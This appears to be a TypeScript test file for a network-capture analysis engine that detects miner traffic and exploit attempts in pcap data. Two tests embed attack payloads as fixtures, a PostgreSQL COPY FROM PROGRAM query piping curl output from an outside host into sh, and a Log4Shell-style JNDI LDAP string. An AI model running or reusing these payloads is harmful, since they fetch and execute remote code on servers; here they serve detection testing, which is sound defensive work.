import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { intelWith } from '../../test/intel-with.ts'
import { be32, eth, ip4, packed, pcapOf, tcp, udp } from '../../test/packets.ts'
import { stratumTalk } from '../../test/stratum-talk.ts'
import { concat } from '../core/bytes.ts'
import type { Dissector, FlowShape, FlowWatcher } from '../core/dissector.ts'
import { PcapngWriter } from './capture/pcapng-writer.ts'
import { CaptureParser } from './capture/records.ts'
import { dissectors } from './dissectors/index.ts'
import { Engine } from './engine.ts'
import { gapsOf } from './tally.ts'
import { watchers } from './watchers/index.ts'

const engineOf = (some: readonly Dissector[], eyes: readonly FlowWatcher[] = [], flows = 1024): Engine =>
  new Engine({ dissectors: some, watchers: eyes, intel: intelWith() }, { flows })

const text = { zh: '测试', en: 'test' }
const about = { summary: text, techniques: [], references: [] }

function run(engine: Engine, capture: Uint8Array): Engine {
  engine.begin('test.pcap')
  new CaptureParser(engine).push(capture)
  engine.finish()
  return engine
}

const frame = (bytes: Uint8Array) => ({ bytes: eth(0x0800, bytes) })

test('a capture of a miner becomes a row that names the frame', () => {
  const { stratum: [row] = [] } = run(engineOf(dissectors), pcapOf(stratumTalk())).rows.all()
  assert.deepEqual([row?.frame, row?.submitted, row?.client], ['test.pcap#4', 1, { address: '192.0.2.1', port: 50_000 }])
})

test('more flows than there is room for: the oldest go, those that are listened to last, and it is told', () => {
  const ear: Dissector = {
    ...about,
    id: 'ear',
    over: 'udp',
    starts: '!',
    probe: () => 'yes',
    open: () => ({ data: () => true, end: () => void ended++ }),
  }
  let ended = 0
  const engine = engineOf([ear], [], 64)
  const flows = Array.from({ length: 1000 }, (_, i) => ({
    ...frame(ip4(17, udp({ sport: 1000 + i }, i === 0 ? '!' : '?'))),
    at: 1.7e15 + i * 1000,
  }))
  engine.begin('many')
  new CaptureParser(engine).push(pcapOf(flows))
  assert.deepEqual([engine.table.size, engine.flows, engine.evicted, ended], [64, 1000, 936, 0])
  engine.finish()
  assert.equal(ended, 1)
  assert.match(gapsOf(engine.tally())[0]?.detail ?? '', /^936 flows/)
})

test('listened-to flows are bounded too: those that have told nothing are given up first', () => {
  let ended = 0
  const ear: Dissector = {
    ...about,
    id: 'ear',
    over: 'udp',
    starts: '!',
    probe: () => 'yes',
    open: () => ({ data: () => true, end: () => void ended++ }),
  }
  const engine = engineOf([ear], [], 1 << 15)
  const flow = (i: number) => ({ ...frame(ip4(17, udp({ sport: 1000 + i }, '!'))), at: 1.7e15 + i })
  engine.begin('many')
  new CaptureParser(engine).push(pcapOf(Array.from({ length: 20_000 }, (_, i) => flow(i))))
  assert.deepEqual([engine.table.size, engine.evicted, ended], [20_000, 20_000 - 16_384, 20_000 - 16_384])
})

test('idle flows are forgotten without a word', () => {
  const engine = engineOf([], [], 1024)
  const flows = Array.from({ length: 500 }, (_, i) => ({ ...frame(ip4(17, udp({ sport: 1000 + i }, '?'))), at: 1.7e15 + i * 10e6 }))
  engine.begin('slow')
  new CaptureParser(engine).push(pcapOf(flows))
  assert.ok(engine.table.size < 60, String(engine.table.size))
  assert.deepEqual(gapsOf(engine.tally()), [])
})

test('a watcher sees the shape of every flow once', () => {
  const seen: Partial<FlowShape>[] = []
  const watcher: FlowWatcher = {
    ...about,
    id: 'eye',
    open: () => ({
      flow: ({ id, asked, answered, finished, packets, count, sizes, times, protocol, frame }) =>
        void seen.push({
          id,
          asked,
          answered,
          finished,
          packets: [...packets],
          protocol,
          frame,
          sizes: sizes.slice(0, count),
          times: times.slice(0, count),
        }),
      end: () => {},
    }),
  }
  run(engineOf(dissectors, [watcher]), pcapOf(stratumTalk()))
  assert.equal(seen.length, 1)
  const [{ sizes, times, ...rest } = {}] = seen
  assert.deepEqual(rest, {
    id: 'connection:tcp/192.0.2.1:50000-198.51.100.1:3333',
    asked: true,
    answered: true,
    finished: true,
    packets: [5, 3],
    protocol: 'stratum',
    frame: 'test.pcap#1',
  })
  assert.deepEqual([...(sizes ?? [])].map(Math.sign), [1, -1, 1, -1])
  assert.ok((times?.[0] ?? 0) > 0)
})

test('a dissector or a watcher that throws is a gap, and the others go on', () => {
  const bad: Dissector = {
    ...about,
    id: 'bad',
    over: 'tcp',
    probe: () => {
      throw new Error('probe')
    },
    open: () => ({ data: () => true }),
  }
  const worse: Dissector = { ...bad, id: 'worse', probe: () => 'yes', open: () => ({ data: () => assert.fail('data') }) }
  const eye: FlowWatcher = { ...about, id: 'eye', open: () => ({ flow: () => assert.fail('flow'), end: () => {} }) }
  const engine = run(engineOf([bad, worse], [eye]), pcapOf(stratumTalk()))
  assert.deepEqual(
    gapsOf(engine.tally()).map(g => [g.source, g.why]),
    [
      ['protocol bad', 'malformed'],
      ['protocol worse', 'malformed'],
      ['protocol eye', 'malformed'],
    ],
  )
})

test('an unknown link type is a gap, not silence', () => {
  const engine = run(engineOf([]), pcapOf([{ bytes: packed('beacon') }], { link: 105 }))
  assert.deepEqual([gapsOf(engine.tally())[0]?.source, gapsOf(engine.tally())[0]?.detail], ['link type 105', '1 frames were not looked at'])
})

test('changed captures and random packets: no exception, and what is kept stays small', () => {
  const change = fc.tuple(fc.nat({ max: 2500 }), fc.nat({ max: 255 }))
  const segment = fc.record({
    seq: fc.nat({ max: 3000 }),
    flags: fc.nat({ max: 31 }),
    payload: fc.uint8Array({ maxLength: 60 }),
    port: fc.nat({ max: 3 }),
    at: fc.nat({ max: 1e8 }),
  })
  const random = fc
    .array(segment, { maxLength: 60 })
    .map(list =>
      pcapOf(list.map(s => ({ ...frame(ip4(6, tcp({ sport: 1000 + s.port }, s.seq, s.flags, s.payload, s.seq))), at: 1.7e15 + s.at }))),
    )
  fc.assert(
    fc.property(
      fc.oneof(fc.constant(pcapOf(stratumTalk())), random),
      fc.array(change, { maxLength: 30 }),
      fc.nat({ max: 4000 }),
      (base, changes, cut) => {
        const capture = concat([base.subarray(0, Math.max(24, base.length - cut))])
        for (const [at, value] of changes) if (at > 24 && at < capture.length) capture[at] = value
        const engine = run(engineOf(dissectors, watchers, 64), capture)
        assert.deepEqual(
          gapsOf(engine.tally()).filter(g => g.source.startsWith('protocol')),
          [],
        )
        assert.ok(engine.streams.budget.left > 31 << 20)
      },
    ),
    { numRuns: 300 },
  )
})

test('a query from the middle of a capture, taken for an answer at first: who speaks is told as before, and its answer is found', () => {
  const query = "COPY t FROM PROGRAM 'curl -s http://198.51.100.9/a.sh | sh'"
  const message = (letter: string, body: string): Uint8Array => packed(letter, be32(body.length + 4), body)
  const ends = { from: '192.0.2.1', to: '198.51.100.1', sport: 2000, dport: 40_000 }
  const back = { from: ends.to, to: ends.from, sport: ends.dport, dport: ends.sport }
  const asked = message('Q', `${query}\0`)
  const { exploits: [row] = [] } = run(
    engineOf(dissectors),
    pcapOf([
      frame(ip4(6, tcp(ends, 1, 0x18, asked, 1), ends)),
      frame(ip4(6, tcp(back, 1, 0x18, message('C', 'COPY 1\0'), 1 + asked.length), back)),
    ]),
  ).rows.all()
  assert.deepEqual([row?.client.address, row?.target, row?.answer], ['192.0.2.1', '', 'COPY 1 '])
})

test('a comment on a frame is told with its conversation, one on the capture without', () => {
  const parts: Uint8Array[] = []
  const writer = new PcapngWriter(bytes => void parts.push(bytes.slice()))
  const bytes = eth(0x0800, ip4(17, udp({}, 'x')))
  writer.packet(bytes, 0, bytes.length, bytes.length, 1.7e15, { link: 1, device: 'eth0' }, 'curl[7]')
  writer.packet(bytes, 0, bytes.length, bytes.length, 1.7e15, { link: 1, device: 'eth0' })
  writer.flush()
  const engine = run(engineOf([]), concat(parts))
  engine.remark('taken at the gate', bytes, 0, 0, 0)
  assert.deepEqual(
    engine.rows.all().remarks?.map(({ frame: name, conversation, text: said }) => [name, conversation, said]),
    [
      ['test.pcap#1', 'connection:udp/192.0.2.1:50000-198.51.100.1:53', 'curl[7]'],
      ['test.pcap', undefined, 'taken at the gate'],
    ],
  )
})

test('what is told inside of a carrier does not replace what was told around it', () => {
  const ends = { from: '192.0.2.1', to: '198.51.100.1', sport: 50_000, dport: 80 }
  const back = { from: ends.to, to: ends.from, sport: 80, dport: 50_000 }
  const attack = (more: string): string => `GET /?x=\${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n${more}\r\n`
  const [outer, granted, inner] = [attack('Upgrade: raw\r\n'), 'HTTP/1.1 101 Ok\r\nUpgrade: raw\r\n\r\n', attack('')]
  const { exploits = [] } = run(
    engineOf(dissectors),
    pcapOf([
      frame(ip4(6, tcp(ends, 0, 2), ends)),
      frame(ip4(6, tcp(ends, 1, 0x18, outer, 1), ends)),
      frame(ip4(6, tcp(back, 1, 0x18, granted, 1 + outer.length), back)),
      frame(ip4(6, tcp(ends, 1 + outer.length, 0x18, inner, 1 + granted.length), ends)),
    ]),
  ).rows.all()
  assert.deepEqual(
    exploits.map(({ via }) => via),
    [[], ['upgrade a']],
  )
})
